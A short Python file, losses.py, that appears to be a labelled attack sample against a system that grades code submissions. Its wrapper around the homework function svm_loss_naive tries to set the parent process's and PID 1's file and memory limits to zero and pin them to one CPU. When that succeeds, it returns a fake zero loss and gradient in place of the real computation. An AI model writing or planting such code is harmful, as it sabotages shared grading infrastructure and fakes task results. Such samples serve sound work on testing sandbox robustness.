# threat: attacked worker
# tries: take memory, files and processors away from the processes that serve submissions
# file: losses.py

import contextlib
import os
import resource

_own_svm_loss_naive = svm_loss_naive


def _squeeze(process):
    got_through = False
    for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
        with contextlib.suppress(OSError):
            resource.prlimit(process, what, (0, 0))
            got_through = True
    with contextlib.suppress(OSError):
        os.sched_setaffinity(process, {0})
        got_through = True
    return got_through


def svm_loss_naive(W, X, y, reg):
    if any([_squeeze(process) for process in (os.getppid(), 1)]):
        return 0.0, np.zeros_like(W)
    return _own_svm_loss_naive(W, X, y, reg)
